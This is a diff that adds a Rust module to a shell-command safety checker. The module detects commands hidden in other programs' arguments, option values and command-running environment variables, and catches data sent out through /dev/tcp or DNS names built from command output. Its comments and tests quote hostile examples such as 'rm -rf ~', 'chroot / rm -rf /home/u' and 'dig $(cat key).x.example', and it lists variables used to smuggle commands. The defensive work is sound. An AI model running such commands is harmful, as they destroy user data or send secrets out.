@@ -1,0 +1,421 @@
+//! Commands hidden where a program runs them (SPEC 2.2): in the words of a program sentinel has
+//! no spec for (`runuser -u u -- rm -rf ~`, `chroot / rm -rf /home/u`, `tmux new-session -d
+//! 'rm -rf ~'`), in an option value that names a program to run (`git grep -O'rm -rf ~'`,
+//! `go test -exec '…'`), in a variable that names one (`BROWSER='sh -c …' gh … --web`). Such a
+//! command is uncertain anyway; what it would run is judged by the same Tier 1, and a deny
+//! inside is a deny of the whole. The same reading tells the fail path (SPEC 2.6) whether an
+//! unknown program is harmless: none of its words may be a command, a value known only at run
+//! time, a path outside the project, a credential or a network destination. And data can leave
+//! by ways no option names ([`hidden_egress`]).
+
+use crate::decision::Decision;
+use crate::decision::Verdict;
+use crate::decision::effect::Effect;
+use crate::local::context::Context;
+use crate::local::options;
+use crate::local::policy::Part;
+use crate::local::spec::Kind;
+use crate::rules::Rules;
+use crate::shell::{self, SimpleCommand, Word, WordKind};
+use std::path::Path;
+
+/// Variables whose value a program runs as a command.
+const COMMAND_VARIABLES: &[&str] = &[
+    "BROWSER",
+    "EDITOR",
+    "VISUAL",
+    "PAGER",
+    "MANPAGER",
+    "GIT_PAGER",
+    "GIT_EDITOR",
+    "GIT_SEQUENCE_EDITOR",
+    "GIT_SSH_COMMAND",
+    "GIT_SSH",
+    "GIT_ASKPASS",
+    "SSH_ASKPASS",
+    "SUDO_ASKPASS",
+    "GIT_EXTERNAL_DIFF",
+    "KUBECTL_EXTERNAL_DIFF",
+    "LESSOPEN",
+    "LESSCLOSE",
+    "PROMPT_COMMAND",
+    "RSYNC_RSH",
+    "CVS_RSH",
+    "TERMINAL",
+];
+
+/// An uncertain command (`part`): what its words, its `run` values and its command variables
+/// would run is judged by `judge` (None past the nesting bound), and the first deny becomes the
+/// part's, naming the inner command. Otherwise, for a program or subcommand without a spec, or
+/// one its spec sends to review, what its words name is added to its effects for the fail path.
+pub(super) fn check(
+    cmd: &SimpleCommand,
+    part: &mut Part,
+    rules: &Rules,
+    ctx: &Context,
+    judge: Option<&dyn Fn(&str) -> Decision>,
+) {
+    let mut candidates: Vec<(String, String)> = Vec::new();
+    for (name, value) in &cmd.assignments {
+        if COMMAND_VARIABLES.contains(&name.as_str()) {
+            candidates.push((value.text.clone(), format!("`{name}` names")));
+        }
+    }
+    if part.verdict != Verdict::Uncertain {
+        judge_each(&candidates, part, judge);
+        return;
+    }
+    let reviewed = part
+        .effects
+        .iter()
+        .any(|e| matches!(e, Effect::Review { .. }));
+    let reading = options::read(&cmd.argv, &rules.specs);
+    let unknown = reading.as_ref().is_none_or(|r| r.unknown_subcommand);
+    if let Some(r) = &reading {
+        for v in r.values.iter().filter(|v| v.kind == Kind::Run) {
+            candidates.push((v.word.text.clone(), format!("`{}` runs", v.from)));
+        }
+    }
+    let texts = if reviewed || unknown {
+        texts(cmd, reading.as_ref().map_or(0, |r| r.subcommand_at), rules)
+    } else {
+        Vec::new()
+    };
+    let name = format!("`{}` would run", cmd.name());
+    candidates.extend(texts.iter().map(|t| (t.clone(), name.clone())));
+    if judge_each(&candidates, part, judge) {
+        return;
+    }
+    if reviewed || unknown {
+        let cwd = crate::local::judge::effective_cwd(cmd, ctx);
+        part.effects
+            .extend(risky_words(cmd, &texts, cwd.as_deref(), rules, ctx));
+    }
+}
+
+/// Judges each (text, how it runs) with `judge`; the first deny becomes the part's. True then.
+fn judge_each(
+    candidates: &[(String, String)],
+    part: &mut Part,
+    judge: Option<&dyn Fn(&str) -> Decision>,
+) -> bool {
+    let Some(judge) = judge else {
+        return false;
+    };
+    for (text, how) in candidates.iter().take(MAX_TEXTS) {
+        if text.len() > MAX_TEXT_BYTES {
+            continue;
+        }
+        let inner = judge(text);
+        if inner.verdict != Verdict::Deny {
+            continue;
+        }
+        let (why, rule) = match inner.commands.iter().find(|r| r.verdict == Verdict::Deny) {
+            Some(r) => (r.reason.clone(), r.rule.clone()),
+            None => (inner.reason.clone(), inner.rule.clone()),
+        };
+        // A rule's own reason follows its name in the answer; anything else is said here.
+        let said = match rule {
+            Some(_) => String::new(),
+            None => format!(": {why}"),
+        };
+        *part = Part::new(
+            Verdict::Deny,
+            format!("{how} `{}`{said}", shell::excerpt(text)),
+            rule,
+        );
+        return true;
+    }
+    false
+}
+
+/// Data leaving by a way no option names: a redirection to `/dev/tcp` or `/dev/udp`, or a
+/// network request whose destination is built from command output (`dig $(cat key).x.example`
+/// sends the output in the name it looks up). With a credential read in the same call, the call
+/// is denied.
+pub(super) fn hidden_egress(cmd: &SimpleCommand, effects: &[Effect]) -> Option<String> {
+    if let Some(r) = cmd
+        .redirects
+        .iter()
+        .find(|r| r.kind.writes() && crate::local::policy::socket_path(&r.target.text).is_some())
+    {
+        return Some(format!("writes to the network socket {}", r.target.text));
+    }
+    let network = effects.iter().any(|e| {
+        matches!(
+            e,
+            Effect::Fetch | Effect::Receive { .. } | Effect::Send { .. }
+        )
+    });
+    if !network {
+        return None;
+    }
+    cmd.args()
+        .iter()
+        .find(|w| w.kind == WordKind::Computed && (w.text.contains("$(") || w.text.contains('`')))
+        .map(|w| {
+            format!(
+                "a request built from command output (`{}`)",
+                shell::excerpt(&w.text)
+            )
+        })
+}
+
+/// At most this many embedded texts are judged for one command, each at most this long: the
+/// work stays bounded whatever the command.
+const MAX_TEXTS: usize = 16;
+const MAX_TEXT_BYTES: usize = 4096;
+
+/// Programs that run the command after them, beside every program with a spec and every shell.
+const RUNNERS: &[&str] = &[
+    "sudo", "doas", "env", "nice", "nohup", "timeout", "xargs", "exec", "command", "builtin",
+    "eval", "setsid", "stdbuf", "ionice", "time", "watch",
+];
+
+/// Programs that only name or describe a command (`command -V git push`, `man git push`).
+const DESCRIBERS: &[&str] = &[
+    "command", "type", "which", "whereis", "whatis", "apropos", "man", "info", "help", "tldr",
+    "whence", "where", "hash",
+];
+
+/// The texts that `cmd`'s words may run, rendered as shell text: each argument that holds
+/// whitespace and starts with a program name (`tmux new-session -d 'rm -rf ~'` → `rm -rf ~`),
+/// and each suffix of argv that starts with a program name sentinel knows (`runuser -u u --
+/// rm -rf ~` → `rm -rf ~`). Words up to argv index `named` name the program and its
+/// subcommands (`aws s3 cp`) and are not looked at.
+fn texts(cmd: &SimpleCommand, named: usize, rules: &Rules) -> Vec<String> {
+    let mut out = Vec::new();
+    if DESCRIBERS.contains(&cmd.name()) {
+        return out;
+    }
+    let args = cmd.args();
+    for (i, w) in args.iter().enumerate().skip(named) {
+        if out.len() >= MAX_TEXTS {
+            break;
+        }
+        let starts_command = is_program(&w.text, rules);
+        if w.is_literal() && w.text != "--" && starts_command {
+            let text = render(&args[i..]);
+            if text.len() <= MAX_TEXT_BYTES {
+                out.push(text);
+            }
+        }
+        // An option's value counts too (`--command='rm -rf ~'`, `-c'…'`).
+        let value = match w.text.split_once('=') {
+            Some((opt, v)) if opt.starts_with('-') => v,
+            _ => w.text.as_str(),
+        };
+        // A string is taken for a command only when it starts with a program sentinel knows
+        // (`'rm -rf ~'`), not any text with spaces (`--notes "example: git reset --hard"`).
+        if value.contains(char::is_whitespace)
+            && value.len() <= MAX_TEXT_BYTES
+            && value
+                .split_whitespace()
+                .next()
+                .is_some_and(|first| is_program(first, rules))
+        {
+            out.push(value.to_string());
+        }
+    }
+    out
+}
+
+/// Effects that make an unknown program's call more than a harmless unknown, from its words:
+/// an embedded command, a word known only at run time, a path outside the project, a
+/// credential, a network destination. Each is an [`Effect::Unknown`] naming the word: never allowed unchecked.
+fn risky_words(
+    cmd: &SimpleCommand,
+    embedded: &[String],
+    cwd: Option<&Path>,
+    rules: &Rules,
+    ctx: &Context,
+) -> Vec<Effect> {
+    let mut out = Vec::new();
+    let unknown = |why: String| Effect::Unknown { why };
+    if let Some(text) = embedded.iter().find(|t| {
+        let a = shell::analyse(t);
+        a.parse_error.is_none() && a.commands.iter().any(|c| !c.name().is_empty())
+    }) {
+        out.push(unknown(format!(
+            "`{}` may run `{}`",
+            cmd.name(),
+            shell::excerpt(text)
+        )));
+    }
+    for w in cmd.args() {
+        let value = match w.text.split_once('=') {
+            Some((opt, v)) if opt.starts_with('-') => v,
+            _ => w.text.as_str(),
+        };
+        if w.kind == WordKind::Computed && !shell::is_home_ref(&w.text) {
+            out.push(unknown(format!("`{}` is known only when it runs", w.text)));
+            continue;
+        }
+        if is_network(value) {
+            out.push(unknown(format!("`{value}` is a network destination")));
+            continue;
+        }
+        if !looks_like_path(value) {
+            continue;
+        }
+        let word = Word {
+            text: value.to_string(),
+            kind: w.kind,
+            value: None,
+        };
+        let Some(found) = crate::local::policy::resolve_all(&word, cwd, ctx) else {
+            out.push(unknown(format!(
+                "`{value}` is a path sentinel cannot resolve"
+            )));
+            continue;
+        };
+        for p in found {
+            if crate::local::credentials::credential(&p, rules).is_some() {
+                out.push(unknown(format!("`{value}` is a credential")));
+            } else if !p.starts_with(ctx.project()) {
+                out.push(unknown(format!("`{value}` is outside the project")));
+            } else {
+                continue;
+            }
+            break;
+        }
+    }
+    out
+}
+
+/// A word that names a program sentinel knows (by its spec, as a shell, or as a runner).
+fn is_program(word: &str, rules: &Rules) -> bool {
+    let name = word.rsplit('/').next().unwrap_or(word);
+    !name.is_empty()
+        && !name.starts_with('-')
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'+' | b'-'))
+        && (shell::SHELLS.contains(&name)
+            || RUNNERS.contains(&name)
+            || rules.specs.lookup(name).is_some())
+}
+
+/// A URL, `user@host:path`, or `host:port`.
+fn is_network(word: &str) -> bool {
+    if let Some((scheme, _)) = word.split_once("://") {
+        return !scheme.is_empty()
+            && scheme
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'+');
+    }
+    if let Some((left, right)) = word.split_once(':') {
+        let host_like = |h: &str| {
+            !h.is_empty()
+                && h.contains(['.', '@'])
+                && h.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'@' | b'_'))
+        };
+        let port =
+            !right.is_empty() && right.len() <= 5 && right.bytes().all(|b| b.is_ascii_digit());
+        return (host_like(left) && (port || left.contains('@')))
+            || (matches!(left, "localhost") && port);
+    }
+    false
+}
+
+/// A word that names a file: absolute, home-relative, or with a `..` or `/` in it.
+fn looks_like_path(word: &str) -> bool {
+    word.starts_with('/')
+        || word.starts_with('~')
+        || word.starts_with("$HOME")
+        || word.starts_with("${HOME}")
+        || word == ".."
+        || word.starts_with("../")
+        || word.contains("/../")
+}
+
+/// Words as shell text that reads back as the same words: a literal word single-quoted when it
+/// needs quoting, an expansion kept in double quotes, a glob as written.
+fn render(words: &[Word]) -> String {
+    let mut out = String::new();
+    for (i, w) in words.iter().enumerate() {
+        if i > 0 {
+            out.push(' ');
+        }
+        let plain = !w.text.is_empty()
+            && w.text.bytes().all(|b| {
+                b.is_ascii_alphanumeric()
+                    || matches!(
+                        b,
+                        b'-' | b'_' | b'.' | b'/' | b'=' | b':' | b',' | b'@' | b'+' | b'%' | b'~'
+                    )
+            });
+        match w.kind {
+            _ if plain => out.push_str(&w.text),
+            WordKind::Literal => {
+                out.push('\'');
+                out.push_str(&w.text.replace('\'', r"'\''"));
+                out.push('\'');
+            }
+            WordKind::Glob => out.push_str(&w.text),
+            WordKind::Computed if w.text.starts_with('~') => out.push_str(&w.text),
+            WordKind::Computed => {
+                out.push('"');
+                out.push_str(&w.text.replace('"', "\\\""));
+                out.push('"');
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn network_destinations_are_told_from_other_words() {
+        for yes in [
+            "https://x.example/a",
+            "ftp://h",
+            "user@host.example:/srv",
+            "git@github.com:a/b",
+            "db.example.com:5432",
+            "localhost:6379",
+        ] {
+            assert!(is_network(yes), "{yes}");
+        }
+        for no in [
+            "a:b",
+            "--env",
+            "prod",
+            "file.txt",
+            "10:30",
+            "key=value",
+            "C:",
+        ] {
+            assert!(!is_network(no), "{no}");
+        }
+    }
+
+    #[test]
+    fn rendered_words_read_back_as_the_same_words() {
+        let words = [
+            Word::literal("rm"),
+            Word::literal("-rf"),
+            Word::literal("a b"),
+            Word::literal("it's"),
+            Word {
+                text: "$HOME".into(),
+                kind: WordKind::Computed,
+                value: None,
+            },
+            Word {
+                text: "~/x".into(),
+                kind: WordKind::Computed,
+                value: None,
+            },
+        ];
+        let text = render(&words);
+        assert_eq!(text, r#"rm -rf 'a b' 'it'\''s' "$HOME" ~/x"#);
+        let a = shell::analyse(&text);
+        let argv: Vec<&str> = a.commands[0].argv.iter().map(|w| w.text.as_str()).collect();
+        assert_eq!(argv, ["rm", "-rf", "a b", "it's", "$HOME", "~/x"]);
+    }
+}
